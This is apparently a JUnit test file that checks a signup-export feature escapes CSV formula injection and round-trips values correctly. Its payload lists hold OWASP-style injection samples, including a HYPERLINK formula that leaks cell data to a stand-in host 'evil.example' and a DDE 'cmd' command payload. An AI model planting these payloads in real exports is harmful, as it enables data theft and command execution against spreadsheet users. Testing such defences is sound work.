package org.peersupport.exportsignups;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.peersupport.shared.json.Json;
import org.peersupport.shared.store.SignupItem;

class ExportPageTest {
    /** OWASP's CSV injection examples, and the characters RFC 4180 has to quote. */
    static final List<String> PAYLOADS = List.of(
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2",
            "-2+3",
            "@SUM(1)",
            "\t=1+1",
            "\r=1+1",
            "\"quoted\", with comma",
            "embedded \"quotes\"",
            "comma, inside",
            "line\r\nbreak",
            "line\nfeed",
            "=",
            "María José",
            "名前");

    static SignupItem item(String firstName, String email, String phone) {
        return SignupItem.builder().pk("GROUP#g").sk("SIGNUP#k").signupId("s-1").groupId("g").createdAt("2026-11-25T20:00:00Z")
                .firstName(firstName).email(email).phone(phone).forWhom("self").language("en").status("confirmed")
                .emailStatus("sent").build();
    }

    static List<CSVRecord> parseStrictly(String csv) throws IOException {
        CSVFormat strict = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(false)
                .setAllowMissingColumnNames(false).setTrim(false).setIgnoreSurroundingSpaces(false)
                .setRecordSeparator("\r\n").get();
        try (CSVParser parser = CSVParser.parse(new StringReader(csv), strict)) {
            assertEquals(ExportPage.COLUMNS, parser.getHeaderNames());
            List<CSVRecord> records = new ArrayList<>(parser.getRecords());
            for (CSVRecord record : records) {
                assertTrue(record.isConsistent(), "every record has every column");
            }
            return records;
        }
    }

    @Test
    void csv_owaspPayloads_surviveAStrictRoundTrip_andNoCellStartsWithATrigger() throws IOException {
        ExportPage page = ExportPage.of(ExportRequest.Format.CSV, Long.MAX_VALUE);
        for (String payload : PAYLOADS) {
            assertTrue(page.tryAdd(item(payload, payload + "@example.org", payload), payload));
        }
        String csv = page.finish(null);
        assertTrue(csv.startsWith("\"signupId\",\"groupId\",\"groupName\",\"createdAt\",\"firstName\",\"email\",\"phone\","
                + "\"forWhom\",\"language\",\"status\",\"emailStatus\"\r\n"), csv.substring(0, 120));
        assertTrue(csv.endsWith("\r\n"));
        List<CSVRecord> records = parseStrictly(csv);
        assertEquals(PAYLOADS.size(), records.size());
        for (int i = 0; i < PAYLOADS.size(); i++) {
            CSVRecord record = records.get(i);
            String payload = PAYLOADS.get(i);
            for (String column : List.of("firstName", "groupName", "phone")) {
                String cell = record.get(column);
                assertFalse(cell.matches("(?s)^[=+\\-@\\t\\r].*"), column + " starts with a formula trigger: " + i);
                String expected = payload.matches("(?s)^[=+\\-@\\t\\r].*") ? "'" + payload : payload;
                assertEquals(expected, cell, "round trip of payload " + i);
            }
            assertEquals(payload + "@example.org", record.get("email").replaceFirst("^'", ""));
        }
    }

    /**
     * A spreadsheet whose list separator is ";" (Spanish, German or French settings) splits a line
     * at every ";", whatever the quotes: what follows one inside a cell must not start a formula
     * either. Read back that way, no cell starts with a trigger; read back as RFC 4180, every value
     * is intact but for the apostrophes.
     */
    @Test
    void csv_readWithSemicolonsAsTheSeparator_hasNoCellStartingWithATrigger() throws IOException {
        Map<String, String> payloads = new java.util.LinkedHashMap<>();
        payloads.put("Ann;=cmd|' /C calc'!A0", "Ann;'=cmd|' /C calc'!A0");
        payloads.put("Bo;+1+1", "Bo;'+1+1");
        payloads.put("Cy; -2", "Cy; '-2");
        payloads.put("Di;\"@SUM(1)", "Di;\"'@SUM(1)");
        payloads.put("Ed,=1", "Ed,'=1");
        payloads.put("Flo;\t=1", "Flo;'\t=1");
        payloads.put("a-b;c=d", "a-b;c=d");
        ExportPage page = ExportPage.of(ExportRequest.Format.CSV, Long.MAX_VALUE);
        for (String payload : payloads.keySet()) {
            assertTrue(page.tryAdd(item(payload, "x@example.org", null), payload));
        }
        String csv = page.finish(null);
        List<CSVRecord> records = parseStrictly(csv);
        List<String> expected = new ArrayList<>(payloads.values());
        for (int i = 0; i < records.size(); i++) {
            assertEquals(expected.get(i), records.get(i).get("firstName"));
            assertEquals(expected.get(i), records.get(i).get("groupName"));
        }
        for (char separator : new char[] {';', ','}) {
            for (String line : csv.split("\r\n")) {
                for (String cell : line.split(java.util.regex.Pattern.quote(String.valueOf(separator)), -1)) {
                    String shown = cell.replaceFirst("^[\\s\"]+", "");
                    assertFalse(shown.matches("(?s)^[=+\\-@\\t\\r].*"), "a cell starts a formula: " + cell);
                }
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1", "+1", "-1", "@1", "\t1", "\r1"})
    void csv_cellStartingWithATrigger_getsAnApostrophe(String value) {
        StringBuilder out = new StringBuilder();
        ExportPage.Csv.cell(out, value);
        String cell = out.toString().startsWith("\"") ? out.substring(1, out.length() - 1) : out.toString();
        assertEquals("'" + value, cell);
    }

    @Test
    void json_rowsAreWrittenFieldByField_withNextCursor() {
        ExportPage page = ExportPage.of(ExportRequest.Format.JSON, Long.MAX_VALUE);
        page.tryAdd(item("=1+1", "a@example.org", null), "Group \"A\"");
        page.tryAdd(item("Bo", "b@example.org", "+15550100"), "Group B");
        Map<String, Object> body = Json.parseObject(page.finish("abc"));
        assertEquals("abc", body.get("nextCursor"));
        List<?> rows = (List<?>) body.get("signups");
        assertEquals(2, rows.size());
        Map<?, ?> first = (Map<?, ?>) rows.get(0);
        assertEquals("=1+1", first.get("firstName"), "JSON is not a spreadsheet: values are exact");
        assertEquals("Group \"A\"", first.get("groupName"));
        assertEquals(ExportPage.COLUMNS, new ArrayList<>(first.keySet().stream().map(String::valueOf).toList()));
        assertEquals("sent", first.get("emailStatus"));
    }

    @Test
    void page_refusesARowThatWouldPassTheSizeLimit_butAlwaysTakesTheFirst() {
        ExportPage page = ExportPage.of(ExportRequest.Format.CSV, 400);
        assertTrue(page.tryAdd(item("A".repeat(200), "a@example.org", null), "G"));
        assertFalse(page.tryAdd(item("B".repeat(200), "b@example.org", null), "G"));
        assertEquals(1, page.rows());
        assertFalse(page.finish(null).contains("BBBB"));
    }

    @Test
    void wireSize_countsJsonEscapes() {
        assertEquals(3, ExportPage.wireSize("abc"));
        assertEquals(4, ExportPage.wireSize("\r\n"));
        assertEquals(2, ExportPage.wireSize("\""));
        assertEquals(6, ExportPage.wireSize("é"));
        assertEquals(6, ExportPage.wireSize("\u0001"));
    }
}
